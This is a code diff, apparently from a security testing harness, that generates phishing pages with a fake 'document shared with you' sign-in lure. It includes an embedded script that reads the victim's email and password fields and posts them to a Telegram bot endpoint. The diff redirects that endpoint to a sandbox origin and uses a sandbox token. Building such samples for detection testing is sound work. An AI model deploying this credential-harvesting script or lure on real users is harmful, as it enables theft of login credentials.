@@ -500,8 +500,8 @@ input{{width:100%;padding:9px;margin:6px 0}}</style></head><body><div class="box
 {scripts}</body></html>"""
 
 TELEGRAM_JS = """(function(){
-  var t = ['sendMessage', 'api.telegram.org/bot', '6012345678:AAH-sbxTokenForTocsinSandbox01'];
-  var u = 'https://' + t[1] + t[2] + '/' + t[0];
+  var t = ['sendMessage', '/bot', '6012345678:AAH-sbxTokenForTocsinSandbox01', '%(origin)s'];
+  var u = t[3] + t[1] + t[2] + '/' + t[0];
   function go(){
     var e = document.getElementById('email').value, p = document.getElementById('password').value;
     if (!e || !p) return;
@@ -560,7 +560,7 @@ async def phishing_bot(env: Env) -> Result:
             "heading": "A document has been shared with you",
             "lure": "Sign in with your work email to view 'Invoice_2024_0412.pdf'.",
             "button": "View document",
-            "scripts": f"<script>{TELEGRAM_JS}</script>",
+            "scripts": f"<script>{TELEGRAM_JS % {'origin': env.tp('telegram')}}</script>",
         }
     elif bot == "discord":
         fields = {
